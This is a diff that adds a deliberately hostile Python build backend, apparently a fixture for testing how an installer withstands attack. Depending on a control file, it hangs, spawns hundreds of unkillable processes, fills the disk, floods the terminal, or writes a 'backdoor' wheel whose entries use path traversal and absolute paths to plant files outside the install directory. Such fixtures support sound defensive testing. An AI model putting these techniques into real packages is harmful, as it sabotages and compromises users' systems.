@@ -1,0 +1,42 @@
+"""A build backend of the attacker's; the file `how` beside it says what it does besides."""
+
+import os
+import subprocess
+import sys
+import time
+import zipfile
+
+sys.path.insert(0, "/home/mallory")
+import payload  # noqa: E402
+
+
+def build_wheel(folder, settings=None, metadata=None):
+    payload.report("backend")
+    with open(os.path.join(os.path.dirname(__file__), "how")) as file:
+        how = file.read().strip()
+    if how == "hangs":
+        time.sleep(4713)
+    if how == "forks":
+        for _ in range(300):
+            subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; sleep 4711"])
+    if how == "fills":
+        with open("/home/mallory/place/venv/filler", "wb") as file:
+            while True:
+                file.write(bytes(1 << 20))
+    if how == "floods":
+        while True:
+            os.write(1, b"\x1b[2J flood\n" * 4096)
+            os.write(2, b"\x1b[2J flood\n" * 4096)
+    name = "backdoor-1.0-py3-none-any.whl"
+    info = "backdoor-1.0.dist-info"
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
+        wheel.writestr("backdoor.py", "import sys; sys.path.insert(0, '/home/mallory')\nimport payload; payload.report('module')\n")
+        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: backdoor\nVersion: 1.0\n")
+        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        if how == "leads out":
+            wheel.writestr(f"{info}/entry_points.txt", "[console_scripts]\n../../../planted = backdoor:main\n")
+            wheel.writestr("../../../../../../../../home/bob/planted", "planted")
+            wheel.writestr("/home/mallory/elsewhere", "planted")
+            wheel.writestr("backdoor-1.0.data/scripts/../../../../../../../../../home/mallory/elsewhere", "planted")
+        wheel.writestr(f"{info}/RECORD", "")
+    return name
